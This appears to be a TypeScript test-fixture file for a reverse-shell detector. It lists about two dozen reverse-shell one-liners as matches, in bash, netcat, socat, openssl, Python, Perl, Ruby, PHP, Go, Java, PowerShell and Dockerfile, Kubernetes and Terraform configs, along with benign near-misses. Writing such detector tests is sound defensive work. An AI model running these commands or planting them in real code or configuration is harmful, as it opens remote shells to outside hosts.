import { miss } from '../sample.ts';
import { host, line, type RiskSamples } from './line.ts';

export const shellSamples: readonly RiskSamples[] = [
  {
    detector: 'reverse-shell',
    hits: [
      line('bash', `bash -i >& /dev/tcp/${host}/4444 0>&1`),
      line('bash in a string', `bash -c "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"`),
      line('bash, descriptors', 'exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done'),
      line('netcat', 'nc -e /bin/sh 10.0.0.1 4444'),
      line('netcat, options together', 'ncat 10.0.0.1 4444 -nve bash'),
      line('netcat for Windows', 'nc.exe 10.0.0.1 4444 -e cmd.exe'),
      line('named pipe', 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f'),
      line('telnet', 'telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445'),
      line('openssl', 'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:443 > /tmp/s'),
      line('socat', 'socat TCP:10.0.0.1:4444 EXEC:/bin/sh,pty,stderr'),
      line(
        'Python',
        `import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("sh")`,
      ),
      line('Python, line by line', 'os.dup2(s.fileno(), 0)'),
      line('Perl', `perl -e 'use Socket;$i="10.0.0.1";open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");'`),
      line(
        'Ruby',
        `ruby -rsocket -e 'c=TCPSocket.new("10.0.0.1","4444");while(l=c.gets);IO.popen(l,"r"){|io|c.print io.read}end'`,
      ),
      line('PHP', `php -r '$s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`),
      line('Node', `client.connect(4444, "10.0.0.1", () => { client.pipe(sh.stdin); sh.stdout.pipe(client) })`),
      line('Go', `c,_:=net.Dial("tcp","10.0.0.1:4444");cmd:=exec.Command("sh");cmd.Stdin=c`),
      line('awk', `awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4444"; while (1) { s |& getline c }}'`),
      line('Go, line by line', 'cmd.Stdin = conn'),
      line('Python, a child', 'subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno())'),
      line(
        'Java',
        'Process p=new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();Socket s=new Socket("10.0.0.1",4444);',
      ),
      line('PowerShell, line by line', `$client = New-Object System.Net.Sockets.TCPClient("10.0.0.1",4444)`),
      line('Dockerfile', `CMD ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]`),
      line('Kubernetes', 'command: ["nc", "10.0.0.1", "4444", "-e", "/bin/sh"]'),
      line('Terraform', 'user_data = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"'),
      line('PowerShell', `$c = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444);$s = $c.GetStream();`),
    ],
    misses: [
      miss('output of a child', 'cmd.Stdout = os.Stdout; subprocess.run(x, stdout=subprocess.PIPE, stdin=f)'),
      miss('ports are tested by PowerShell', 'New-Object System.Net.Sockets.TcpClient($server, $port)'),
      miss('a port is tested', 'timeout 1 bash -c "</dev/tcp/localhost/5432" && echo up'),
      miss('a port is tested by netcat', 'nc -zv example.com 443'),
      miss('a file is sent by netcat', 'nc -l 4444 | tar x'),
      miss('an interactive shell', 'docker exec -it web bash -i'),
      miss('a port is tested by PowerShell', `(New-Object Net.Sockets.TcpClient).Connect('example.com', 443)`),
      miss('a forward by socat', 'socat TCP-LISTEN:80,fork TCP:10.0.0.1:8080'),
      miss('output is thrown away', 'exec 5<>file; cmd >& /dev/null'),
      miss('a file is piped into a program', 'fs.createReadStream("a").pipe(zlib.stdin)'),
      miss('prose', 'A reverse shell connects back to a listener, for example by netcat with an option to execute a program.'),
    ],
  },
];
